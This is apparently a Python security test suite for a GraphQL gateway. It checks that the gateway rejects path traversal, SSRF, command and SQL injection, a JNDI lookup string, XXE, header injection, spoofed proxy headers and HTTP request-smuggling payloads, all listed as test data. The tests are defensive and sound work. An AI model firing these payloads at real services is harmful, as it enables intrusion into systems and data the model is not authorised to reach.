"""Reaching what stands behind the gateway, or fooling what stands before it: headers, addresses, keys."""

from __future__ import annotations

import json

from app.sources.node_ids import node_id
from tests.attacks.attacker import TRANSPORTS, Attacker
from tests.attacks.catalog import Attacks, Group
from tests.attacks.expect import reveals_nothing

attacks = Attacks(Group.BACKENDS)

BODY = json.dumps({"query": "{ me { subject } }"}).encode()
LENGTH = f"Content-Length: {len(BODY)}"

KEYS: dict[str, str] = {
    "customer(by: {number: $key}) { number }": "a customer's number",
    'customer(by: {ref: {system: "erp", id: $key}}) { number }': "a customer's id in a system",
    "order(by: {number: $key}) { number }": "an order's number",
    'order(by: {ref: {system: "erp", id: $key}}) { number }': "an order's id in a system",
    "shipment(by: {trackingNumber: $key}) { status }": "a tracking number",
    "item(by: {sku: $key}) { sku }": "an SKU",
    "item(by: {gtin: $key}) { sku }": "a GTIN",
}
PATHS = (
    "../CUST-0057", "..%2fCUST-0057", "%2e%2e%2fcustomers", "....//", "/etc/passwd", "..\\..\\", "./CUST-0001", "//evil.example/",
    "http://evil.example/", "http://127.0.0.1:1/", "file:///etc/passwd", "CUST-0001?admin=1", "CUST-0001#x", "CUST-0001;a=b",
    "CUST-0001&number=CUST-0057", "@evil.example", "CUST-0001%00", "CUST-0001%0d%0aX-A: b", "*", "%", "_", "' OR '1'='1", '" OR ""="',
    "1; DROP TABLE orders", "$(id)", "`id`", "{{7*7}}", "${jndi:ldap://evil.example/a}", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
)  # fmt: skip
CONTROLS = (
    "CUST-0001\x00",
    "CUST-0001\r\nX-Injected: 1",
    "\nHost: evil.example",
    "\x1b[2J",
    "a\u2028b",
    "\u202eCUST",
    "\x7f",
)


def _keyed(field: str, what: str) -> None:
    query = f"query($key: String!) {{ {field} }}"

    @attacks.attack(f"a path in {what}", "another resource of a backend, a file, another host")
    async def _(attacker: Attacker) -> None:
        await attacker.target.forget()
        for key in PATHS:
            reply = await attacker.ask(query, key=key)
            assert reply.status == 200, reply.text
            assert not any((reply.data or {}).values()), (key, reply.text)
            assert set(reply.codes) <= {"INVALID_INPUT"}, (key, reply.text)
            reveals_nothing(reply)
        for path in await attacker.target.backend_paths():
            assert not {"etc", "passwd", "..", "admin", "evil.example"} & set(path.replace("?", "/").split("/")), path

    @attacks.attack(
        f"control characters in {what}", "a header or a line of one's own in what backends are sent, and in logs"
    )
    async def _(attacker: Attacker) -> None:
        for key in CONTROLS:
            reply = await attacker.ask(query, key=key)
            assert reply.codes == ["INVALID_INPUT"], (key, reply.text)
            assert not any((reply.data or {}).values())


for _field, _what in KEYS.items():
    _keyed(_field, _what)


@attacks.attack("a system of one's own", "an address to call, by the name of a system")
async def _(attacker: Attacker) -> None:
    for system in ("http://evil.example", "../erp", "ERP", "erp\x00", "", "__class__", "nobody"):
        for field in ("customer", "order", "shipment"):
            query = f"query($by: {field.title()}Key!) {{ {field}(by: $by) {{ id }} }}"
            reply = await attacker.ask(query, by={"ref": {"system": system, "id": "1001"}})
            assert not any((reply.data or {}).values())
            reveals_nothing(reply)


@attacks.attack("ids with a path", "another resource of a backend, by a made-up id")
async def _(attacker: Attacker) -> None:
    for key in ("../customers/1057", "..%2f..", "1\r\nX: y", "a\x00b", "http://evil.example"):
        for kind, source in (("Order", "erp"), ("Shipment", "logistics"), ("Order", "commerce")):
            reply = await attacker.ask("query($id: ID!) { node(id: $id) { id } }", id=node_id(kind, source, key))
            assert not any((reply.data or {}).values()), (kind, key, reply.text)
            assert set(reply.codes) <= {"INVALID_ID", "INVALID_INPUT"}, (kind, key, reply.text)


@attacks.attack("warehouses and units with a path", "another resource of a backend, by arguments that are no keys")
async def _(attacker: Attacker) -> None:
    for text in PATHS:
        query = 'query($w: String!, $s: String!) { items(first: 1, filter: {category: $s, search: $w}) { nodes { sku } } item(by: {sku: "SKU-0001"}) { availability(warehouses: [$w]) { atp } contractPrice(customer: {number: "CUST-0001"}, uom: $w) { uom } } }'
        reply = await attacker.ask(query, w=text, s=text)
        assert reply.status == 200
        assert not ((reply.data or {}).get("item") or {}).get("availability")
        assert set(reply.codes) <= {"INVALID_INPUT", "BAD_USER_INPUT", "NOT_FOUND", "NOT_SUPPORTED"}, (text, reply.text)


@attacks.attack("a request id with lines", "a header of one's own in the answer, a line in the log")
async def _(attacker: Attacker) -> None:
    for name in ("X-Request-ID", "X-Correlation-ID", "Traceparent"):
        for value in (
            "a\tb",
            "x" * 20_000,
            '"><script>',
            "%0d%0aSet-Cookie: a=b",
            "é",
            "{}",
            "..",
            '{"level": "error"}',
            "00-" + "0" * 32 + "-" + "0" * 16 + "-01",
        ):
            answer = await attacker.raw(attacker.request(LENGTH, f"{name}: {value}", "Connection: close", body=BODY))
            head = answer.partition(b"\r\n\r\n")[0].lower()
            assert head[:12] in {b"http/1.1 200", b"http/1.1 400", b"http/1.1 431"}
            assert b"set-cookie" not in head
            assert b"<script>" not in head
            assert len(head) < 2_000
    answer = await attacker.raw(
        attacker.request(LENGTH, "X-Request-ID: a\r\nX-B: c\rd", "Connection: close", body=BODY)
    )
    assert answer.startswith(b"HTTP/1.1 400")


@attacks.attack("somebody else's address", "rules and logs by an address that is only claimed")
async def _(attacker: Attacker) -> None:
    claims = {
        "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1", "x-forwarded-host": "evil.example", "x-forwarded-proto": "https",
        "forwarded": "for=127.0.0.1;host=evil.example;proto=https", "x-original-url": "/metrics", "x-rewrite-url": "/metrics",
        "x-forwarded-prefix": "/admin", "x-client-ip": "127.0.0.1", "true-client-ip": "127.0.0.1", "x-host": "evil.example",
    }  # fmt: skip
    reply = await attacker.post({"query": "{ me { subject } }"}, **claims)
    assert reply.body == {"data": {"me": {"subject": "a-buyer"}}}
    assert "strict-transport-security" not in reply.headers, "a proxy that is not trusted said https"
    assert "evil.example" not in str(reply.headers)
    reply = await attacker.post(
        {"query": "{ me { subject } }"},
        None,
        **claims,
        **{"x-user": "admin", "x-remote-user": "admin", "x-roles": "admin"},
    )
    assert reply.codes == ["UNAUTHENTICATED"]


@attacks.attack("identity by a proxy's headers", "another role, customer or client than the credential's")
async def _(attacker: Attacker) -> None:
    claims = {
        "x-user-role": "admin",
        "x-tenant": "other",
        "x-client-id": "acme",
        "apollographql-client-name": "acme",
        "x-customer": "CUST-0002",
        "x-roles": "admin",
    }
    reply = await attacker.post({"query": "{ me { subject roles customers { number } } }"}, **claims)
    assert reply.data == {"me": {"subject": "a-buyer", "roles": ["BUYER"], "customers": [{"number": "CUST-0001"}]}}


SMUGGLED = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
SMUGGLES: dict[str, list[str]] = {
    "a length beside chunks": ["Content-Length: 6", "Transfer-Encoding: chunked"],
    "chunks beside a length": ["Transfer-Encoding: chunked", "Content-Length: 4"],
    "two lengths": ["Content-Length: 5", "Content-Length: 6"],
    "a list of lengths": ["Content-Length: 5, 6"],
    "two encodings": ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
    "an unknown encoding": ["Transfer-Encoding: xchunked"],
    "an encoding after chunks": ["Transfer-Encoding: chunked, gzip"],
    "a space before the colon": ["Transfer-Encoding : chunked"],
    "a tab before the value": ["Transfer-Encoding:\x0bchunked"],
    "a folded header": ["X-A: b\r\n Transfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked"],
    "a length with a sign": ["Content-Length: +5"],
    "a length in hex": ["Content-Length: 0x5"],
    "a negative length": ["Content-Length: -1"],
    "an empty length": ["Content-Length: "],
    "a header without a name": [": x", "Content-Length: 0"],
    "a NUL in a header": ["X-A: a\x00b", "Content-Length: 0"],
    "a bare line feed": ["X-A: b\nTransfer-Encoding: chunked", "Content-Length: 0"],
    "a second host": ["Host: evil.example", "Content-Length: 0"],
}


@attacks.attack(
    "a request within a request", "an answer for the next caller, by lengths that two readers read differently"
)
async def _(attacker: Attacker) -> None:
    for name, lines in SMUGGLES.items():
        answer = await attacker.raw(attacker.request(*lines, body=b"0\r\n\r\n" + SMUGGLED), wait=4)
        assert answer.count(b"HTTP/1.1 ") <= 1, (name, answer)
        assert answer[:12] in {b"HTTP/1.1 400", b"HTTP/1.1 501", b"HTTP/1.1 408", b"HTTP/1.1 421", b""}, (
            name,
            answer[:200],
        )
        assert b"tradegraph_" not in answer


@attacks.attack("chunks that are no chunks", "a body whose end two readers see in different places")
async def _(attacker: Attacker) -> None:
    bodies = (
        b"zz\r\n\r\n",
        b"5\r\nab\r\n0\r\n\r\n",
        b"ffffffffffffffffff\r\n",
        b"5;" + b"a" * 100_000 + b"\r\n",
        b"-1\r\n\r\n",
        b"0x5\r\nhello\r\n0\r\n\r\n",
        b"5\nhello\n0\n\n",
    )
    for body in bodies:
        answer = await attacker.raw(attacker.request("Transfer-Encoding: chunked", body=body + SMUGGLED), wait=2.5)
        assert answer.count(b"HTTP/1.1 2") == 0, (body[:20], answer[:300])
        assert b"tradegraph_" not in answer


@attacks.attack("a credential in a trailer", "a header that comes after the check of headers")
async def _(attacker: Attacker) -> None:
    body = b"%x\r\n%b\r\n0\r\nAuthorization: %b\r\n\r\n" % (
        len(BODY),
        BODY,
        (attacker.credential("buyer") or "").encode(),
    )
    answer = await attacker.raw(
        attacker.request("Transfer-Encoding: chunked", "Connection: close", body=body, principal=None), wait=4
    )
    assert answer.startswith(b"HTTP/1.1 401")


@attacks.attack("another protocol on the way", "a reader that was not meant to be there (h2c, TLS, proxies)")
async def _(attacker: Attacker) -> None:
    upgraded = attacker.request(
        LENGTH,
        "Connection: Upgrade, HTTP2-Settings, close",
        "Upgrade: h2c",
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        body=BODY,
    )
    assert b"101" not in (await attacker.raw(upgraded, wait=4))[:20]
    for bytes_ in (
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
        b"GET http://evil.example/graphql HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"PROXY TCP4 1.2.3.4 1.2.3.4 1 2\r\nGET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    ):
        answer = await attacker.raw(bytes_, wait=2.5)
        assert answer[:10] in {b"HTTP/1.1 4", b""}, (bytes_, answer[:80])


@attacks.attack("hop-by-hop headers", "a credential that a proxy is told to take away")
async def _(attacker: Attacker) -> None:
    reply = await attacker.post({"query": "{ me { subject } }"}, None, connection="authorization, close")
    assert reply.codes == ["UNAUTHENTICATED"]
    reply = await attacker.post({"query": "{ me { subject } }"}, connection="authorization, x-request-id, close")
    assert "admin" not in reply.text


@attacks.attack("a backend's own words", "addresses, versions and secrets from errors behind the gateway")
async def _(attacker: Attacker) -> None:
    for kind in ("500", "html", "truncated", "wrong_types", "reset"):
        async with (
            attacker.target.broken("erp", resource="*", errorRate=1.0, errorKind=kind),
            attacker.target.broken("erp", resource="batch", errorRate=1.0, errorKind=kind),
        ):
            for transport in TRANSPORTS:
                payload = {
                    "query": '{ customer(by: {number: "CUST-0001"}) { name creditStatus { state } orders(first: 1) { nodes { number } } } }'
                }
                reply = await attacker.over(transport, payload)
                assert reply.status == 200
                reveals_nothing(reply)
                assert all(code.startswith(("SOURCE_", "DEADLINE")) for code in reply.codes), reply.text
                assert attacker.target.backend_token not in reply.text
